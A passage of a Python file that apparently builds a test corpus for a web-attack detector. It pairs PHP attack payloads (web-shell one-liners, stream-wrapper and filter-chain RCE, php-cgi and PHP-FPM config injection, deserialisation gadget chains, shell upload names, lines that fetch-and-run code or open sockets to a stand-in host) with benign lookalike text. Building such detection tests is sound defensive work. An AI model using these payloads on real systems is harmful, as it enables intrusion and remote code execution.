    "$a='_'.'POST';${$a}[1](${$a}[2]);",
    "('sys'.'tem')('id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "$f=new ReflectionFunction($_GET['f']);$f->invokeArgs(array($_GET['c']));",
    "array_filter(array('id'),'passthru');",
    "{${system($_GET[c])}}",
    "${@eval($_POST[1])}",
    "ob_start('passthru');echo 'cat /etc/passwd';ob_end_flush();",
    "$e=$_REQUEST['e'];$arr=array($_POST['pass']=>'|.*|e',);array_walk($arr,$e,'');",
    "forward_static_call('system','id');",
    "get_defined_functions()['internal'][array_search('system',get_defined_functions()['internal'])]('id');",
    "$f='assert';$f(@$_POST['x']);",
    "hex2bin('73797374656d')('id');",
]

# php-wrappers: stream wrappers handed to include/file_get_contents/fopen (source and config disclosure, filter
# chains, data:// code, phar:// deserialisation, expect:// commands, zip:// and glob:// tricks)
WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=wp-config.php",
    "php://filter/read=convert.base64-encode/resource=../../../.env",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/configuration.php",
    # a filter-chain RCE (the generator's chain, as captured; code from php://temp)
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.base64-decode|convert.base64-encode|"
    "convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
    "PHP://INPUT",
    "php://input%00",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain,<?php phpinfo();?>",
    "phar:///var/www/html/uploads/avatar.jpg/test.txt",
    "phar://./uploads/2024/06/image.gif",
    "expect://id",
    "expect://curl${IFS}203.0.113.50/s|sh",
    "zip:///var/www/html/uploads/shell.jpg%23shell.php",
    "zip://uploads/avatar.zip#x.php",
    "glob:///var/www/html/*.php",
    "glob://../../*",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://phar:///tmp/x.phar/x",
    "ssh2.exec://root:toor@203.0.113.50:22/id",
    "rar://uploads/x.rar#shell.php",
    "php://filter/write=convert.base64-decode/resource=cache.php",
    # Laravel Ignition (CVE-2021-3129): log clearing filter chain, then the phar trigger
    body("{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"parameters\":"
         "{\"variableName\":\"username\",\"viewFile\":\"php://filter/write=convert.quoted-printable-decode|"
         "convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log\"}}"),
    body("{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"parameters\":"
         "{\"variableName\":\"username\",\"viewFile\":\"phar://../storage/logs/laravel.log/test.txt\"}}"),
    "index.php?page=php://filter/convert.base64-encode/resource=index",
]

# php-object-injection: serialized objects for unserialize() sinks (cookies, Joomla session UA, vBulletin,
# phpggc gadget chains for Laravel, Monolog, Guzzle, Yii, WordPress; type-juggling arrays)
OBJECT: list[Entry] = [
    "O:8:\"stdClass\":0:{}",
    # Joomla 1.5-3.4 session injection through User-Agent (CVE-2015-8562), truncated by a 4-byte character
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"\\0\\0\\0"
    "disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";O:20:\"JDatabaseDriverMysql\":0:"
    "{}s:8:\"feed_url\";s:37:\"phpinfo();JFactory::getConfig();exit;\";s:19:\"cache_name_function\";s:6:\"assert\";"
    "s:5:\"cache\";b:1;s:11:\"cache_class\";O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}s:13:\"\\0\\0\\0"
    "connection\";b:1;}\U0001d306",
    # phpggc Laravel/RCE1
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\\0*\\0formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\\0*\\0event\";s:2:\"id\";}",
    # phpggc Monolog/RCE1
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";O:29:\"Monolog\\Handler\\BufferHandler\":7:"
    "{s:10:\"\\0*\\0handler\";r:2;s:13:\"\\0*\\0bufferSize\";i:-1;s:9:\"\\0*\\0buffer\";a:1:{i:0;a:2:{i:0;s:2:\"id\";"
    "s:5:\"level\";N;}}s:8:\"\\0*\\0level\";N;s:14:\"\\0*\\0initialized\";b:1;s:14:\"\\0*\\0bufferLimit\";i:-1;"
    "s:13:\"\\0*\\0processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}",
    # phpggc Guzzle/FW1: writes a shell into the web root
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":4:{s:36:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename\";"
    "s:19:\"/var/www/html/x.php\";s:52:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0storeSessionCookies\";b:1;"
    "s:36:\"\\0GuzzleHttp\\Cookie\\CookieJar\\0cookies\";a:1:{i:0;O:27:\"GuzzleHttp\\Cookie\\SetCookie\":1:"
    "{s:33:\"\\0GuzzleHttp\\Cookie\\SetCookie\\0data\";a:3:{s:7:\"Expires\";i:1;s:7:\"Discard\";b:0;"
    "s:5:\"Value\";s:28:\"<?php system($_GET['c']); ?>\";}}}s:39:\"\\0GuzzleHttp\\Cookie\\CookieJar\\0strictMode\";N;}",
    "a:2:{i:0;s:4:\"test\";i:1;O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:1:{s:1:\"x\";s:2:\"id\";}}",
    "O:+8:\"stdClass\":0:{}",
    # type juggling: password compared with == against true
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "YToyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjg6InBhc3N3b3JkIjtiOjE7fQ==",
    "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
    # vBulletin 5 unserialize RCE (CVE-2015-7808)
    "O:12:\"vB_dB_Result\":2:{s:5:\"\\0*\\0db\";O:17:\"vB_Database_MySQL\":1:{s:9:\"functions\";a:1:"
    "{s:11:\"free_result\";s:6:\"assert\";}}s:12:\"\\0*\\0recordset\";s:18:\"system('id');exit;\";}",
    # phpggc Yii2/RCE1
    "O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"\\0yii\\db\\BatchQueryResult\\0_dataReader\";"
    "O:15:\"Faker\\Generator\":1:{s:13:\"\\0*\\0formatters\";a:1:{s:5:\"close\";a:2:{i:0;"
    "O:20:\"yii\\rest\\CreateAction\":2:{s:11:\"checkAccess\";"
    "s:6:\"system\";s:2:\"id\";s:2:\"id\";}i:1;s:3:\"run\";}}}}",
    "a:1:{i:0;O:8:\"Template\":1:{s:4:\"file\";s:25:\"http://203.0.113.50/x.txt\";}}",
    # WordPress Requests gadget
    "C:33:\"Requests_Utility_FilteredIterator\":70:{x:i:0;a:1:{i:0;s:2:\"id\";};m:a:1:{s:11:\"\\0*\\0callback\";"
    "s:6:\"system\";}}",
    "x|O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
    "O:6:\"Logger\":2:{s:7:\"logFile\";s:23:\"/var/www/html/shell.php\";s:7:\"logData\";"
    "s:28:\"<?php system($_GET['c']); ?>\";}",
    "a:2147483647:{i:0;i:0;}",
    "O:9:\"PageModel\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{s:4:\"user\";O:4:\"User\":2:{s:4:\"role\";s:5:\"admin\";s:2:\"id\";i:1;}}",
]

# php-config-directives: php.ini settings forced through php-cgi arguments (CVE-2012-1823, CVE-2024-4577), PHP-FPM
# PHP_VALUE (CVE-2019-11043), uploaded .htaccess / .user.ini, ini_set and pearcmd's register_argc_argv
CONFIG: list[Entry] = [
    arg("-d allow_url_include=on -d auto_prepend_file=php://input"),
    "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    arg("-s"),
    arg("\xadd allow_url_include=1 \xadd auto_prepend_file=php://input"),
    arg("-d safe_mode=Off -d disable_functions=NULL -d allow_url_fopen=On -d allow_url_include=On "
        "-d auto_prepend_file=http://203.0.113.50/ok.txt"),
    arg("-d cgi.force_redirect=0 -d cgi.redirect_status_env=0 -d allow_url_include=1 -d auto_prepend_file=php://input"),
    "auto_prepend_file=/proc/self/environ",
    "php_value auto_prepend_file \"/tmp/sess_k8v2p0\"",
    "AddType application/x-httpd-php .png",
    "php_value auto_append_file \".htaccess\"\n#<?php system($_GET['c']);?>",
    "ini_set('allow_url_include','1');include('http://203.0.113.50/s.txt');",
    "ini_set('disable_functions','');",
    "ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    # PHP-FPM path-info underflow (phuip-fpizdam) PHP_VALUE lines
    "PHP_VALUE\nauto_prepend_file=a;;;;;;;;;;;;;;;;;;;;",
    "session.auto_start=1;;;;;;;;;;;;;;;;;;;;;;;",
    "error_log=/tmp/a;;;;;;;;;;;;;;;;;;;;;;;;;;;;;",
    "include_path=/tmp;;;;;;;;;;;;;;;;;;;;;;;;;;;;",
    "auto_prepend_file=shell.jpg",
    "allow_url_include=1\nauto_prepend_file=\"data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+\"",
    "register_globals=On",
    "PHP_SESSION_UPLOAD_PROGRESS=<?php system('id');?>",
    "dl('/tmp/evil.so');",
    # pearcmd with register_argc_argv: writes a shell through config-create
    kvq("+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?=system($_GET['c'])?>"
        "+/tmp/shell.php"),
    kvq("lang=../../../../usr/local/lib/php/pearcmd&+install+-R+/tmp+http://203.0.113.50/shell.php"),
    "php_flag engine on\nAddHandler php-script .txt",
    "extension=/tmp/evil.so",
]

# superglobals: request-controlled $_GET/$_POST/$_REQUEST/$_COOKIE/$_SERVER/$_FILES/$GLOBALS reaching code, the
# uploader stubs bots drop first, and register_globals / variable-overwrite parameter names
SUPERGLOBALS: list[Entry] = [
    "@eval($_POST['ant']);",
    "assert($_REQUEST['a']);",
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "$_COOKIE['x']($_COOKIE['y']);",
    "extract($_GET);$a($b);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "$GLOBALS['_GET']['f']($GLOBALS['_GET']['c']);",
    "@system($_SERVER['HTTP_ACCEPT_LANGUAGE']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "file_put_contents($_GET['n'],$_POST['d']);",
    "include($_COOKIE['inc']);",
    "eval($_SERVER['HTTP_CMD']);",
    "eval(getenv('HTTP_X_CODE'));",
    kv("_SERVER[REMOTE_ADDR]=127.0.0.1"),
    kv("GLOBALS[_SERVER][HTTP_HOST]=203.0.113.50"),
    kv("_SESSION[login]=1&_SESSION[user]=admin"),
    kvq("_POST[cmd]=id&_REQUEST[cmd]=id"),
    "echo $_FILES['file']['tmp_name'];copy($_FILES['file']['tmp_name'],$_FILES['file']['name']);",
    "if(md5($_COOKIE['k'])=='e10adc3949ba59abbe56e057f20f883e'){eval($_POST['c']);}",
    "$_REQUEST['e']($_REQUEST['p']);",
    "echo base64_encode(file_get_contents($_GET['f']));",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "eval(base64_decode($_COOKIE['PHPSESSID']));",
    "var_export($_SESSION);",
]

# php-file-upload: the names web-shell uploaders give their files (extension variants, double extensions,
# trailing characters, Windows streams, IIS semicolons, config files that make PHP run), target: PHP handler
UPLOADS: list[Entry] = [
    up("shell.php"),
    up("x.phtml"),
    up("avatar.php.jpg"),
    up("avatar.jpg.php"),
    up("image.php5"),
    up("cmd.php7"),
    up("x.pht"),
    up("db.phar"),
    up("shell.php%00.jpg"),
    up("shell.PhP"),
    up("shell.php."),
    up("shell.php::$DATA"),
    up(".htaccess"),
    up(".user.ini"),
    up("wso.php"),
    up("c99.php"),
    up("r57.php"),
    up("b374k.php"),
    up("alfacgiapi.php"),
    up("../../../var/www/html/up.php"),
    up("index.php;.jpg"),
    up("x.php%20"),
    up("x.phps"),
    up("filename*=UTF-8''sh%65ll.php"),
    up("mini.php.png"),
    up("x.pgif"),
    up("shell.php3"),
    up("shell.php4"),
    up("shell.phpt"),
    up("shell.php....."),
    up("wp-content/plugins/hello/up.php"),
    up("0x.shtml.php"),
]

# php-high-risk-function-names: the functions web shells call for recon, persistence, sockets and
# disable_functions bypasses (LD_PRELOAD + mail, imap_open, FFI, pcntl), target: PHP interpreter
HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "echo php_uname();echo getcwd();",
    "fsockopen('203.0.113.50',4444);",
    "pfsockopen('tcp://203.0.113.50',443,$e,$s,30);",
    "stream_socket_client('tcp://203.0.113.50:4444');",
    "print_r(posix_getpwuid(posix_geteuid()));",
    "posix_kill(getmypid(),9);",
    "pcntl_exec('/bin/sh',array('-c','id'));",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@b.c','','','');",
    "imap_open('{203.0.113.50:143/imap}INBOX -oProxyCommand=echo\\tZWNobyBzaGVsbF9leGVjKCRfR0VUWyJjIl0pOw==|base64"
    "\\t-d|sh}','','');",
    "highlight_file('/etc/passwd');",
    "show_source('index.php');",
    "print_r(scandir('/'));",
    "print_r(glob('/var/www/*'));",
    "fpassthru(fopen('/etc/shadow','r'));",
    "symlink('/','root');",
    "chmod('x.php',0777);",
    "unlink(__FILE__);",
    "touch('x.php',strtotime('-1 year'));",
    "echo ini_get('disable_functions');",
    "echo get_current_user();",
    "echo disk_free_space('/');",
    "FFI::cdef('int system(const char *command);')->system('id');",
    "Closure::fromCallable('system')('id');",
    "eval(str_rot13(base64_decode(strrev('==wOpcSc2dCK6J3ZmxmZ'))));",
    "eval(gzuncompress(base64_decode('eJwrriwuSc3VUM9MUde0BgAinwRN')));",
    f"gethostbyname(php_uname('n').'.{OAST}');",
    f"dns_get_record(get_current_user().'.{OAST}');",
    "mb_send_mail('a@b.c','x','y','','-X/var/www/html/log.php');",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/e.php');",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JS_URI),
    ("xss", "html-injection", HTML),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM),
    ("xss", "ie-filter-style", IE),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-template", ANGULAR),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOADS),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "name", "search", "redirect", "file", "lang", "callback", "comment", "url", "page_id"]
    rs_names = ["foo", "var", "x", "test", "id", "arg1", "cmd", "page"]
    kv_safe = BlindSet.kv_safe + "+"   # pearcmd's argv separator stays a literal plus
    raw_places = ("form", "query", "param-name", "rs-param-name", "rs-raw-body", "rs-query")
    upload = "GIF89a"
    file_type = "image/gif"
    unique = True
    xml_controls = "\n\t"

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def is_latin(self, sub: str, payload: str) -> bool:
        """A payload whose high characters are single bytes (php-cgi's soft hyphen, the US-ASCII 7-bit trick)."""
        return any(ord(ch) > 127 for ch in payload) and all(ord(ch) < 256 for ch in payload)

    def fits(self, place: str, v: str) -> bool:
        """A raw form body no carriage return."""
        return "\r" not in v if place == "rs-raw-body" else super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about server logs, incidents, honeypots, front-end
# and PHP work, searches, links to advisories and docs, admin-panel notes, profiles, uploads, ordinary headers)
CHAT = [
    # honeypot and log chat
    "the honeypot logged 40k requests overnight, most of them for /vendor/phpunit and /wp-login.php",
    "half of yesterday's 404s were bots probing for ThinkPHP, we don't even run PHP",
    "I grouped the honeypot hits by user agent, the top one was a Go client hammering /cgi-bin",
    "our tarpit kept one scanner busy for six hours, pretty happy with that",
    "the Mirai variants we saw last week all tried the same router exploit, nothing for our stack",
    "someone please rotate the honeypot's sensor key, it's been in the shared doc since March",
    "weekly honeypot summary: 61% scanners, 30% credential stuffing, the rest noise",
    "the miner campaign in the logs is fetching xmrig from a host that's already on the blocklist",
    "can we ship the honeypot logs to the SIEM instead of grepping them on the box?",
    "funny one in the logs today: a bot sent the same payload twice in the query, doubled parameters everywhere",
    "the nginx access log shows a lot of %25 double encoding from that scanner, it's just noise",
    "blocked the 203.0.113.0/24 range at the edge after the brute force, let me know if a customer complains",
    # XSS bugs and front-end work
    "found the bug: the bio field was rendered with innerHTML instead of textContent",
    "XSS fix is merged, we now escape the display name in the admin table",
    "the CSP report endpoint is getting a lot of inline script violations from the old help widget",
    "can we drop unsafe-inline from the CSP once the analytics snippet moves to a file?",
    "we load the chat widget with a script tag with async and defer in the footer",
    "don't use inline onclick handlers in the new templates, the CSP will block them",
    "the bug bounty report about the redirect parameter was valid, we now only allow relative paths",
    "upgraded DOMPurify to the latest release, the changelog mentions a MathML namespace fix",
    "the markdown renderer strips raw HTML now, so people can't paste iframes into comments",
    "does anyone know why the SVG avatars render as plain text in Safari? content type issue?",
    "we still have one AngularJS 1.8 page in the admin, it's on the list to move to Vue",
    "the Vue migration for the settings page is done, v-html is gone from that component",
    "reminder: textContent for user data, innerHTML only for our own static templates",
    "IE11 support officially ends with the next release, finally",
    "the style attribute sanitizer now drops expression() and url() values, per the security review",
    "the email template uses a table background image, outlook still needs that",
    "XSS training for the front-end team is on Wednesday, bring your laptop",
    "the iframe embed for the status page is sandboxed now, no scripts or forms",
    # PHP work
    "PHP 8.3 upgrade on the legacy billing box is scheduled for Sunday night",
    "the old intranet still runs php-fpm behind nginx, it's getting decommissioned in Q3",
    "composer audit flagged guzzle, bumping it in the wiki plugin",
    "someone left phpinfo on the staging wiki, I removed the file",
    "disable_functions on the shared host lists exec and shell_exec, so the export script fails there",
    "the WordPress marketing site got the security update, plugins too",
    "the php.ini on the old box has allow_url_include off, checked it for the audit",
    "we don't use unserialize anywhere in the new code, it's json_decode everywhere",
    "PHPUnit is a dev dependency only, make sure vendor/ isn't served from the web root",
    "the Laravel app has APP_DEBUG=false in production now, someone had turned it on",
    "the upload form only accepts jpg, png and pdf now, checked server-side too",
    "Drupal 7 end of life is January, the docs site moves to a static generator",
    "ThinkPHP shows up in our logs constantly but none of our apps use it",
    "the CTF training VM has an intentionally vulnerable PHP app, do not expose it",
    # incidents and reviews
    "postmortem for the comment spam incident is up, short version: the captcha was off",
    "incident review at 3pm: the defacement was on the old microsite, not the product",
    "the pentest found a reflected XSS in the search page of the old docs, fix deployed",
    "security advisory went out to customers about the avatar upload fix",
    "we rotated all the session cookies after the incident, users will need to log in again",
    "the WAF flagged a support agent's reply because it quoted a script tag from a customer email",
    "a customer pasted their whole nginx error log into the ticket, it has their server paths in it",
    "the CVE for the image library is a denial of service, not code execution, lower priority",
    "who owns the blocklist update job? it failed twice this week",
    "the bug was a double-encoded slash in the redirect URL, not an attack at all",
    "the bot that keeps hitting /.env is from a cloud range, reported it to their abuse contact",
    # bios
    "Security engineer, runs the company honeypots and writes the weekly threat summary",
    "Front-end developer, Vue and TypeScript, fights with CSP headers for fun",
    "PHP developer since the 5.2 days, now mostly Laravel and Symfony",
    "Incident responder, log enthusiast, collector of weird user agents",
    "Support lead. If the upload fails, send me the file name and the time",
    "Web app pentester, OSCP, ex-sysadmin",
    "Maintainer of the internal WordPress sites and their plugins",
    "Site reliability, nginx and php-fpm tuning, on call every other week",
]

SEARCHES = [
    "honeypot",
    "honeypot logs",
    "xss",
    "script tag",
    "php",
    "php-fpm",
    "phpunit",
    "thinkphp",
    "wordpress",
    "drupal",
    "joomla",
    "laravel",
    "vbulletin",
    "svg avatar",
    "iframe",
    "javascript",
    "angular",
    "vue",
    "mirai",
    "xmrig",
    "web shell",
    "upload",
    "avatar.png",
    "php.ini",
    "unserialize",
    "content security policy",
    "dompurify",
    "incident",
    "blocklist",
    "redirect",
    "Alert",
    "Eval",
    "Hunter",
    "Script",
    "Expression",
    "Onload Ltd",
    "system admin",
    "shell",
    "exec team",
    "include",
    "o'brien",
    "ann & co",
    "phar",
    "glob",
    "marquee",
]

URLS = [
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.allow-url-include",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-9841",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://nvd.nist.gov/vuln/detail/CVE-2018-7600",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://github.com/cure53/DOMPurify/releases",
    "https://github.com/ambionics/phpggc",
    "https://github.com/projectdiscovery/interactsh",
    "https://www.honeynet.org/projects/",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://docs.angularjs.org/guide/security",
    "https://laravel.com/docs/11.x/upgrade",
    "https://wordpress.org/news/category/security/",
    "https://blog.example.com/2024/06/what-our-honeypot-saw-in-may",
    "https://status.example.com/incidents/2024-06-12-comment-spam",
]

PROSE = [
    "customer says the upload of avatar.php.jpg was rejected, file is a real photo renamed by their phone app",
    "user asks why their display name shows &lt;b&gt; literally, they wanted bold text",
    "ticket: the export to CSV breaks when a name contains a quote, e.g. O'Brien",
    "please check the honeypot sensor in eu-west, it stopped sending logs at 02:14",
    "customer reports the embed code for the status iframe does not load on their intranet",
    "the company name is Script & Style Ltd, the signup form rejected it",
    "user wants to know if we support SVG avatars, answer: not yet, png and jpg only",
    "escalation: a customer forwarded a phishing email that links to a fake login page with our logo",
    "their PHP plugin for our API fails with a curl timeout, asked for php -v and the curl version",
    "follow up with the customer about the javascript error on the billing page in Firefox 115",
    "customer asks if our widget works with Vue 3 and AngularJS, both should be fine",
    "reset the password for the user whose account was used in the credential stuffing attempt",
    "customer asks why the WAF blocked their request, they pasted a stack trace with <?php in it",
    "the user's bio mentions they are an XSS researcher, no action needed",
    "note: the Mirai report from the ISP is about a camera on the customer's network, not our servers",
    "customer running WordPress asks which plugin versions our integration needs",
    "question about the data export: can we include the onboarding survey answers",
    "user uploaded report_final(2).pdf twice, deleted the duplicate",
    "the phpinfo screenshot the customer sent shows PHP 7.4, they need 8.1 for the SDK",
    "double-check the expression filter in the reports page, sales says totals are wrong",
    "customer's redirect URL points to an http:// address, asked them to use https",
    "meeting notes: honeypot budget approved, two more sensors in Q3",
    "the incident ticket mentions a serialized cookie, check whether that endpoint still exists",
    "user cannot log in after changing their email, session cookie looks stale",
    "customer asks whether alert emails can go to a shared mailbox",
    "the eval period for the enterprise plan ends Friday, send the renewal quote",
    "system status: all green, shell access to the jump host restored",
    "user wants their profile link to point to their GitHub page",
    "customer's admin says our style guide PDF has broken fonts",
    "the onload time for the dashboard is above 3 seconds on mobile, perf ticket filed",
    "the include list for the audit: nginx, php-fpm, WordPress plugins and the honeypot",
    "customer asks for the list of IPs our webhooks come from",
    "hunter from the marketing team needs admin access to the blog",
    "request to whitelist the scanner of the customer's pentest vendor for next week",
    "user reports that the marquee on the old landing page is still there, remove it",
]

PROFILES = [
    ("Hunter Script", "12 Onload Road, Leeds"),
    ("Ann Expression", "4 Base Street, Manchester"),
    ("Eval Kovacs", "Vaci ut 22, Budapest"),
    ("Marquee Jones", "8 Frame Lane, Bristol"),
    ("Alert Berisha", "Rruga e Kavajes 10, Tirana"),
    ("Jordan Phar", "221 Glob Avenue, Austin, TX"),
    ("Priya Shellington", "7 Exec Close, Reading"),
    ("Sam Include", "Hauptstrasse 5, Berlin"),
    ("Li Wrapper", "18 Input Way, Singapore"),
    ("Maria Svgaard", "Nyhavn 3, Copenhagen"),
    ("Tom O'Brien", "33 Java Street, Dublin"),
    ("Rosa Angular", "Calle Mayor 9, Madrid"),
    ("Vue Nguyen", "45 Le Loi, Ho Chi Minh City"),
    ("Chris System", "90 Process Park, Cambridge"),
    ("Noor Honeypot", "1 Hive Lane, Utrecht"),
    ("Ivan Mirai", "Lenina 14, Novosibirsk"),
    ("Drupal Community Team", "Remote"),
    ("Ana & Pedro Styles", "Rua Augusta 100, Lisbon"),
    ("Kai Php", "Mannerheimintie 2, Helsinki"),
    ("Sofia Iframe", "Via Roma 12, Turin"),
    ("<3 Maya", "Sunset Blvd 5, Los Angeles"),
    ("Lee Cookie", "77 Biscuit Row, York"),
]

UPLOAD_NAMES = [
    "honeypot-2024-06-summary.csv",
    "nginx-access-2024-06-11.log.gz",
    "phpinfo-screenshot.png",
    "php.ini.diff",
    "script.docx",
    "onboarding script v2.pdf",
    "xss-training-slides.pdf",
    "incident-postmortem-comment-spam.md",
    "avatar.png",
    "avatar (1).jpg",
    "logo.svg.png",
    "team-photo.jpeg",
    "wordpress-plugins-inventory.xlsx",
    "laravel-upgrade-notes.txt",
    "mirai-isp-report.eml",
    "csp-report-sample.json",
    "users-export-2024-06.csv",
    "Expression of interest - Ann.pdf",
    "style-guide-v3.pdf",
    "phar-lap-trip-photo.jpg",
    "shell-beach-2023.jpg",
    "include_list_audit.ods",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Guzzle/7.8.1 curl/7.88.1 PHP/8.2.20"),
    ("User-Agent", "WordPress/6.5.4; https://blog.example.com"),
    ("Referer", "https://app.example.com/admin/users?q=script"),
    ("Referer", "https://www.php.net/manual/en/function.htmlspecialchars.php"),
    ("Referer", "https://owasp.org/www-project-top-ten/"),
    ("Referer", "https://www.google.com/search?q=php+8.3+upgrade+guide"),
    ("Referer", "https://github.com/cure53/DOMPurify"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "9b2e4f10-7c3a-4d8e-b1f5-0a6c2d9e8f47"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en"),
    ("Cookie", "session=abc123; last_search=script%20writer; tz=UTC"),
    ("Cookie", "session=abc123; PHPSESSID=6k3v9q2p1m8r7t0u5w4x; consent=analytics"),
    ("X-Forwarded-For", "198.51.100.77"),
    ("If-Modified-Since", "Tue, 11 Jun 2024 08:00:00 GMT"),
    ("Cache-Control", "no-cache"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
